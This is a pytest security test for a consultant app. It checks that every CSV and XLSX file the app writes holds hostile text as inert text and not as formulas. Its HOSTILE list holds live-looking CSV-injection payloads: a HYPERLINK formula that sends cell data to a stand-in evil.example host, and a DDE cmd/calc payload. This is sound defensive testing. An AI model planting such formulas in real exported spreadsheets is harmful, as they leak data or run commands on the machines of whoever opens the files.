"""Attack: text typed into the app (a name, a note, a campaign title) runs as a formula when a
team lead opens a file the app wrote (OWASP "CSV injection").

Every spreadsheet file the laptop writes is made here from a vault whose every text field is
hostile, through the real commands, and reopened: no XLSX cell is a formula, no CSV cell starts
with a character a spreadsheet runs, and the hostile text is still there, as text. The
interchange export survives export -> import -> export unchanged.
"""

import csv
import json
from datetime import date

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from consultant_app.cli.main import main
from consultant_app.domain import Inquiry
from consultant_app.interchange.columns import HEADER
from consultant_app.storage.vault import Vault
from consultant_app.survey import create_campaign
from tests.support import PASSPHRASE

LINK = '=HYPERLINK("http://evil.example/?"&A1,"klik her")'
HOSTILE = [LINK, "+45 1+1", "-1+2", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

ROW = {
    "received_on": "2025-03-05",
    "region": "midtjylland",
    "inquirer_type": "kommune",
    "channel": "mail",
    "citizen_age_group": "barn",
    "trip_concern": "ingen",
}
TEXT_COLUMNS = (
    "external_ref",
    "notes",
    "professional_name",
    "professional_email",
    "professional_phone",
    "professional_organisation",
)


def write_rows(path, rows):
    header = list(HEADER)
    with path.open("w", encoding="utf-8-sig", newline="") as f:
        writer = csv.writer(f, delimiter=";")
        writer.writerow(header)
        for row in rows:
            writer.writerow([row.get(name, "") for name in header])
    return path


def hostile_rows():
    rows = []
    for i, text in enumerate(HOSTILE):
        row = dict(ROW) | {column: text for column in TEXT_COLUMNS}
        row["external_ref"] = f"{text}#{i}"  # unique, the import's key
        row["professional_email"] = ""  # an address is checked; its hostility is the name's
        row["professional_phone"] = "+45 87 13 00 00"  # a real number that starts with a trigger
        rows.append(row)
    rows.append(dict(ROW) | {"region": "atlantis", "notes": LINK})  # rejected, with its text
    return rows


@pytest.fixture
def cli(monkeypatch):
    monkeypatch.setenv("CONSULTANT_APP_PASSPHRASE", PASSPHRASE)

    def run(*args):
        assert main([str(a) for a in args]) == 0, args

    return run


def csv_cells(path):
    text = path.read_bytes().decode("utf-8-sig")
    return [cell for record in csv.reader(text.splitlines(keepends=True), delimiter=";") for cell in record]


def assert_no_running_csv_cell(path):
    cells = csv_cells(path)
    assert not [c for c in cells if c.startswith(TRIGGERS)], path.name
    return cells


def assert_no_formula_cell(path):
    book = load_workbook(path)
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (path.name, sheet.title, cell.coordinate, cell.value)
                values.append(cell.value)
    return values


def test_every_spreadsheet_the_laptop_writes_holds_hostile_text_as_text(tmp_path, cli):
    vault = tmp_path / "vault.db"
    Vault.create(vault, PASSPHRASE, name=LINK, team="aarhus").lock()
    cli(
        "import",
        "inquiries",
        write_rows(tmp_path / "in.csv", hostile_rows()),
        "--vault",
        vault,
        "--skip-invalid",
        "--rejects",
        tmp_path / "rejects.csv",
    )
    with Vault.open(vault, PASSPHRASE) as opened, opened.session() as session:
        campaign = create_campaign(
            session,
            name=LINK,
            link="https://survey.example.dk/x",
            period_from=date(2025, 3, 1),
            period_to=date(2025, 3, 31),
        )
    out = tmp_path / "out"
    out.mkdir()
    cli("export", "inquiries", out / "export.csv", "--vault", vault)
    for fmt in ("csv", "xlsx"):
        cli(
            "stats",
            "monthly",
            "--vault",
            vault,
            "--from",
            "2025-03",
            "--to",
            "2025-03",
            "--format",
            fmt,
            "-o",
            out / f"stats.{fmt}",
        )
        cli("survey", "report", campaign.id, "--vault", vault, "--format", fmt, "-o", out / f"survey.{fmt}")
    cli("package", "--vault", vault, "--month", "2025-03", "-o", tmp_path / "package.json")
    for fmt in ("csv", "xlsx"):
        cli(
            "team-report",
            tmp_path / "package.json",
            "--from",
            "2025-03",
            "--to",
            "2025-03",
            "--format",
            fmt,
            "-o",
            out / f"team.{fmt}",
        )

    written = sorted(p.name for p in out.iterdir())
    assert written == [
        "export.csv",
        "stats.csv",
        "stats.xlsx",
        "survey.csv",
        "survey.xlsx",
        "team.csv",
        "team.xlsx",
    ]
    found = {}
    for path in [*out.glob("*.csv"), tmp_path / "rejects.csv"]:
        found[path.name] = assert_no_running_csv_cell(path)
    for path in out.glob("*.xlsx"):
        found[path.name] = assert_no_formula_cell(path)
    # The hostile text is there, whole: escaped in CSV, verbatim as a string cell in XLSX.
    for text in HOSTILE:
        assert "'" + text in found["export.csv"]
    assert "'" + LINK in found["rejects.csv"]
    assert any(LINK in str(v) for v in found["stats.xlsx"])  # the consultant's name, as the source
    assert any(LINK in str(v) for v in found["stats.csv"])
    assert LINK in found["survey.xlsx"]  # the campaign name (the CSV holds the table only)


def test_export_import_export_is_lossless(tmp_path, cli):
    first, second = tmp_path / "a.db", tmp_path / "b.db"
    for path in (first, second):
        Vault.create(path, PASSPHRASE, name="Aya Jensen", team="aarhus").lock()
    cli("import", "inquiries", write_rows(tmp_path / "in.csv", hostile_rows()[:-1]), "--vault", first)
    cli("export", "inquiries", tmp_path / "one.csv", "--vault", first)
    cli("import", "inquiries", tmp_path / "one.csv", "--vault", second)
    cli("export", "inquiries", tmp_path / "two.csv", "--vault", second)
    assert (tmp_path / "one.csv").read_bytes() == (tmp_path / "two.csv").read_bytes()
    with Vault.open(second, PASSPHRASE) as opened, opened.session() as session:
        notes = sorted(session.scalars(select(Inquiry.notes)))
    assert notes == sorted(HOSTILE)  # the apostrophe was the file's, not the note's


def test_an_xlsx_of_our_csv_saved_by_a_spreadsheet_imports_without_the_apostrophe(tmp_path):
    from openpyxl import Workbook

    from consultant_app.interchange.table_reader import read_table

    book = Workbook()
    book.active.append(["notes"])
    book.active.append(["'" + LINK])
    book.active.cell(2, 1).data_type = "s"
    book.save(tmp_path / "saved.xlsx")
    assert read_table(tmp_path / "saved.xlsx").rows[0][1] == [LINK]
    assert json.dumps(LINK)  # the text itself is unchanged in memory
